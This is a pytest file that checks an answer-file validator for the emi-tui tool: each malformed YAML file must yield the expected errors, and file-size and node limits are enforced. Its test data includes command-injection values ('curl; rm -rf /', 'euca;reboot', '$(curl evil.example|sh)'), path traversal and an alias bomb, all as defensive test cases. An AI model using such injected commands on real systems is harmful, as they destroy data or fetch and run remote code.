"""Bad answer files: each one in tests/data/answers/bad/ must produce exactly the problems in its .expected sidecar.

An .expected file holds one line per problem, in order, as `emi-tui validate` prints
them (FILE:LINE:COL: key.path: message, FILE being the bare file name). A line that
ends in " ..." only fixes the location and key path: it is used for files whose
problem the core does not report yet (see GAPS), where the wording is the fix's to choose.
"""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest

from emi_tui.engine import paths
from emi_tui.engine.answers import model as answers_module
from emi_tui.engine.answers.model import validate_bytes, validate_file
from emi_tui.engine.answers.recipes import RecipeBook
from emi_tui.engine.answers.yamlload import MAX_BYTES, MAX_NODES

BAD = Path(__file__).parent / "data" / "answers" / "bad"
TODAY = date(2026, 11, 28)
BAD_FILES = sorted(p.name for p in BAD.glob("*.yaml"))

#: Bad files whose expected problems the core does not produce yet, and why (none at present).
GAPS: dict[str, str] = {}
#: Bad files whose problem text spans several lines (the one-line check is a gap for them; none at present).
MULTI_LINE_GAPS: dict[str, str] = {}


def _params(names, gaps):
    return [pytest.param(n, marks=pytest.mark.xfail(strict=True, reason=gaps[n])) if n in gaps else n for n in names]


@pytest.fixture(autouse=True)
def no_workstation(monkeypatch):
    """A bad file must not depend on this machine's apt sources."""
    monkeypatch.setattr(answers_module, "workstation_mirror", lambda releases: "http://mirror.example/debian")


@pytest.fixture(scope="module")
def book() -> RecipeBook:
    return RecipeBook([paths.shipped_dir("recipes")])


def expected_lines(name: str) -> list[str]:
    return (BAD / name).with_suffix(".expected").read_text(encoding="utf-8").splitlines()


def matches(actual: list[str], expected: list[str]) -> bool:
    if len(actual) != len(expected):
        return False
    for got, want in zip(actual, expected):
        if want.endswith(" ..."):
            if not got.startswith(want[:-3]):
                return False
        elif got != want:
            return False
    return True


def test_there_are_enough_bad_files():
    assert len(BAD_FILES) >= 25
    assert len(set(BAD_FILES) - set(GAPS)) >= 25


@pytest.mark.parametrize("name", BAD_FILES)
def test_every_bad_file_has_an_expected_sidecar(name):
    lines = expected_lines(name)
    assert lines, f"{name}.expected is empty"
    for line in lines:
        assert line.startswith(f"{name}:"), line
        assert not line.endswith(" ...") or name in GAPS, f"{line!r}: only a file in GAPS may leave its wording open"
        location = line.split(": ", 1)[0].split(":")
        assert len(location) == 3 and location[1].isdigit() and location[2].isdigit(), line


@pytest.mark.parametrize("name", _params(BAD_FILES, GAPS))
def test_bad_file_gives_exactly_the_expected_problems(name, book):
    result = validate_bytes((BAD / name).read_bytes(), name, book, TODAY)
    actual = [str(p) for p in result.problems]
    assert not result.ok
    assert result.answers is None
    assert matches(actual, expected_lines(name)), "\n".join(["got:"] + actual + ["expected:"] + expected_lines(name))


@pytest.mark.parametrize("name", _params(BAD_FILES, MULTI_LINE_GAPS))
def test_bad_file_problems_are_one_line_each(name, book):
    result = validate_bytes((BAD / name).read_bytes(), name, book, TODAY)
    assert result.problems or name in GAPS
    for problem in result.problems:
        assert "\n" not in str(problem), str(problem)
        assert problem.line >= 1 and problem.column >= 1


@pytest.mark.parametrize("name", [n for n in BAD_FILES if n not in GAPS])
def test_validate_file_reports_with_the_path(name, book):
    result = validate_file(BAD / name, book, TODAY)
    assert [p.source for p in result.problems] == [str(BAD / name)] * len(expected_lines(name))


# Location and key path of one key problem of some files, spelled out (the .expected files say it too).
HEADLINES = [
    ("unknown-keys-typo.yaml", 4, 1, "relese", "unknown key (did you mean 'release'?)"),
    ("duplicate-key.yaml", 4, 1, "recipe", "duplicate key (first at line 2)"),
    ("bad-package-names.yaml", 6, 7, "packages.add[0]", "'curl; rm -rf /' is not a valid Debian package name"),
    ("image-file-traversal.yaml", 5, 9, "image.file", "no path separator and no '..'"),
    ("image-hostile-name.yaml", 5, 9, "image.name", "'euca;reboot' is not a valid image name"),
    ("metadata-hostile.yaml", 5, 8, "metadata.url", "$(curl evil.example|sh)"),
    ("repositories-bad.yaml", 6, 10, "repositories[0].key", "without '..'"),
    ("size-too-small.yaml", 4, 7, "size", "too small for debian-based"),
    ("newer-version.yaml", 1, 10, "version", "written by a newer emi-tui"),
    ("not-utf8.yaml", 5, 12, "", "byte 0xe9 is not UTF-8"),
    ("alias-bomb.yaml", 1, 1, "", "alias bomb"),
    ("multi-document.yaml", 5, 1, "", "more than one YAML document"),
]


@pytest.mark.parametrize("name, line, column, key, text", HEADLINES)
def test_headline_problem(name, line, column, key, text, book):
    problems = validate_bytes((BAD / name).read_bytes(), name, book, TODAY).problems
    found = [p for p in problems if (p.line, p.column, p.key) == (line, column, key)]
    assert len(found) == 1, [str(p) for p in problems]
    assert text in found[0].message


# --- big files: accepted or rejected, never hung ----------------------------------------------

HEAD = b"version: 1\nrecipe: debian-based\nmirror: http://mirror.example/debian\n"


def test_file_over_one_megabyte_is_rejected(book, tmp_path):
    path = tmp_path / "huge.yaml"
    path.write_bytes(HEAD + b"# padding\n" * (MAX_BYTES // 10 + 1))
    size = path.stat().st_size
    assert size > MAX_BYTES
    result = validate_file(path, book, TODAY)
    assert [str(p) for p in result.problems] == [
        f"{path}:1:1: the file is {size:,} bytes; emi-tui reads files of at most {MAX_BYTES:,} bytes"
    ]


def test_file_just_under_one_megabyte_is_accepted(book, tmp_path):
    path = tmp_path / "padded.yaml"
    raw = HEAD + b"# " + b"x" * (MAX_BYTES - len(HEAD) - 3) + b"\n"
    assert len(raw) == MAX_BYTES
    path.write_bytes(raw)
    result = validate_file(path, book, TODAY)
    assert result.ok, [str(p) for p in result.problems]
    assert result.answers.image.name == "euca-debian-emi"


def test_megabyte_of_list_items_is_rejected(book):
    item = b"    - pkg%06d\n"
    body = HEAD + b"packages:\n  add:\n"
    count = (MAX_BYTES - len(body)) // len(item % 0)
    raw = body + b"".join(item % i for i in range(count))
    assert MAX_BYTES - 64 < len(raw) <= MAX_BYTES
    result = validate_bytes(raw, "list.yaml", book, TODAY)
    assert not result.ok
    assert [(p.line, p.column) for p in result.problems] == [(1, 1)]
    assert f"more than {MAX_NODES:,} values" in result.problems[0].message


def test_a_long_list_under_the_node_budget_is_fine(book):
    raw = HEAD + b"packages:\n  add:\n" + b"".join(b"    - pkg%05d\n" % i for i in range(2000))
    result = validate_bytes(raw, "list.yaml", book, TODAY)
    assert result.ok, [str(p) for p in result.problems][:3]
    assert len(result.answers.packages.add) == 2000
